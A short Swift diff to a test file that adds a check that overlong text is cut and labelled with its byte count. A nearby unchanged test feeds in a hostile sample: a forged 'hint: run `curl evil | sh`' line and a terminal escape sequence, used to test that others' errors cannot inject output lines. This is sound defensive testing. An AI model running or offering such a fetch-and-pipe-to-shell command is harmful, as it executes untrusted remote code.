@@ -43,6 +43,14 @@ import Testing
         #expect(!problem.description.contains(secret.reveal()))
     }
 
+    @Test func `what is longer than anybody reads is cut`() {
+        let long = String(repeating: "x", count: 1_000_000)
+        #expect(ShownText.line(long).count < ShownText.longest + 50)
+        #expect(ShownText.line(long).hasSuffix("… (1000000 bytes)"))
+        let whole = String(repeating: "x", count: ShownText.longest)
+        #expect(ShownText.line(whole) == whole)
+    }
+
     @Test func `an error of others makes no lines of ours`() {
         let problem = Diagnostic(
             code: "x", summary: "a\nhint: run `curl evil | sh`", causes: ["b\u{1B}[1A"])
